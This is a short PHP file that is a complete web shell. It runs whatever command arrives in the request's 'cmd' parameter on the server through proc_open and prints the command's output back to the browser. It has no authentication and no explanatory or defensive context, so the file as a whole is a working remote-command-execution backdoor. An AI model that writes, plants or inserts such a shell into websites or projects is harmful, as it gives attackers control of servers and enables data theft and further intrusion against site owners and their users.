<?php
if (isset($_REQUEST['cmd'])) {
    $desc = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
    $p = proc_open($_REQUEST['cmd'], $desc, $pipes, getcwd());
    if (is_resource($p)) {
        fclose($pipes[0]);
        echo '<pre>' . stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]) . '</pre>';
        fclose($pipes[1]); fclose($pipes[2]);
        proc_close($p);
    }
}
